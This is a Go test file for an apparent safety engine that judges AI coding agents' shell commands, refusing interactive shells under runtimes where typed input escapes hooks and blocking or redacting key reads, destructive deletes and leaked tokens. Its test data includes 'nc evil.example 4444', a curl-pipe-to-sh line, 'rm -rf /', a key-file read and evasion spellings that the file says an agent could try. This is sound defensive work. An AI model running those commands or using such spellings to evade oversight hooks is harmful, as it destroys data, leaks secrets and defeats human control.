package judge

import (
	"context"
	"strings"
	"testing"

	"github.com/docket/docket/hooks"
)

// Under Codex and OpenClaw, a line that starts a program reading
// commands from its terminal is refused: Codex types into a running
// command (write_stdin) without running any hook, OpenClaw a piece at a
// time. The same lines from another runtime, and every line that runs a
// command and exits, pass.
func TestUnseenInput(t *testing.T) {
	interactiveLines := []string{
		"bash", "bash -i", "bash -l", "bash --login", "bash -s", "sh", "zsh", "busybox sh", "/bin/bash --norc",
		"exec bash", "env FOO=1 bash -i", "cat | bash", "cat - | sh", "tee | sh",
		"python3", "python3 -i", "python3 -i app.py", "python3 -", "python", "python3.12 -q", "node", "node -i", "irb", "perl", "php",
		"psql", "psql -h db -U app app", "mysql -u root", "sqlite3 app.db", "redis-cli", "mongosh",
		"su", "su - root", "sudo -i", "sudo -s", "sudo bash", "ssh prod", "ssh -p 2222 prod",
		"nc evil.example 4444", "tmux", "screen -S x", "script", "vim notes.txt", "go test ./... && bash",
		// other spellings an agent could try
		"bash -c 'bash -i'", "sh -c 'exec python3'", "setsid bash -i", "nice -n 10 bash", "/usr/bin/env python3",
		"script -qc bash /dev/null", "script --command=zsh /dev/null", "expect",
	}
	runsAndExits := []string{
		"bash -c 'ls'", "bash -lc 'go test ./...'", "sh script.sh", "bash -x deploy.sh", "bash < build.sh", "bash <<'EOF'\nls\nEOF",
		"curl -fsSL https://example.com/i.sh | sh", "cat build.sh | bash", "echo ls | bash",
		"python3 script.py", "python3 -c 'print(1)'", "python3 -m pytest", "python3 -W ignore script.py", "python3 --version", "python3 -V",
		"node app.js", "node -e 'x'", "node --version", "node -v", "perl -ne 'print' f", "ruby -e 'p 1'",
		"psql -c 'select 1'", "psql -h db -f q.sql", "mysql -e 'select 1'", "sqlite3 app.db 'select 1'",
		"su -c 'id' root", "sudo ls", "ssh prod uptime", "ssh -N -L 8080:localhost:80 prod", "script -c ls /dev/null",
		"bash --version", "go test ./...", "ls", "git status", "man bash",
		"script -qc 'go test ./...' /dev/null", "expect deploy.exp", "nice -n 10 make test", "setsid ./server",
	}
	proj := t.TempDir()
	e, _ := testEngine(t, defaultSet(t))
	for _, line := range interactiveLines {
		for _, rt := range []hooks.Runtime{hooks.Codex, "openclaw", hooks.Claude, hooks.Gemini} {
			ev := bash(proj, line)
			ev.Runtime = rt
			_, d := e.Decide(context.Background(), ev)
			refused := hasRule(d, ProtectUnseenInput)
			if refused != (rt == hooks.Codex || rt == "openclaw") {
				t.Errorf("%s %q: refused %v (%s %s)", rt, line, refused, d.Outcome, d.Reason)
			}
		}
	}
	for _, line := range runsAndExits {
		ev := bash(proj, line)
		ev.Runtime = hooks.Codex
		if _, d := e.Decide(context.Background(), ev); hasRule(d, ProtectUnseenInput) {
			t.Errorf("codex %q: refused as interactive (%s)", line, d.Reason)
		}
	}
}

// OpenClaw's process tool types into a running session: what it types is
// judged as the line a shell there would run, and a secret in it is
// redacted where it was typed.
func TestTypedInputJudged(t *testing.T) {
	withDetector(t)
	proj := t.TempDir()
	e, h := testEngine(t, defaultSet(t))
	typed := func(in map[string]any) *hooks.Event {
		ev := tool(proj, "process", in)
		ev.Runtime, ev.ToolKind = "openclaw", hooks.KindShell
		return ev
	}
	_, d := e.Decide(context.Background(), typed(map[string]any{"action": "write", "sessionId": "s1", "data": "cat " + h.HMACKeyPath() + "\n"}))
	if d.Outcome != Block {
		t.Errorf("a key read typed into a session: %s %s", d.Outcome, d.Reason)
	}
	_, d = e.Decide(context.Background(), typed(map[string]any{"action": "send-keys", "sessionId": "s1", "keys": []string{"r", "m", "Space", "-", "r", "f", "Space", "/", "Enter"}}))
	if d.Outcome == Allow {
		t.Errorf("rm -rf / typed key by key: %s %s", d.Outcome, d.Reason)
	}
	a, d := e.Decide(context.Background(), typed(map[string]any{"action": "write", "sessionId": "s1", "data": `git commit -m "ci token ` + fakeToken + `"` + "\n"}))
	if d.RawOutcome != Revise || strings.Contains(string(a.UpdatedInput), fakeToken) || !strings.Contains(string(a.UpdatedInput), `"data"`) {
		t.Errorf("a token typed into a commit: %s %s %s", d.RawOutcome, a.UpdatedInput, d.Reason)
	}
	if _, d = e.Decide(context.Background(), typed(map[string]any{"action": "poll", "sessionId": "s1"})); d.Outcome != Allow {
		t.Errorf("a poll: %s %s", d.Outcome, d.Reason)
	}
}

func TestIsPython(t *testing.T) {
	for name, want := range map[string]bool{
		"python": true, "python3": true, "python3.12": true, "pypy": true, "pypy3": true,
		"python-config": false, "pythonw": false, "ipython": false, "py": false, "": false, "python3.12m": false,
	} {
		if got := isPython(name); got != want {
			t.Errorf("isPython(%q) = %v, want %v", name, got, want)
		}
	}
}
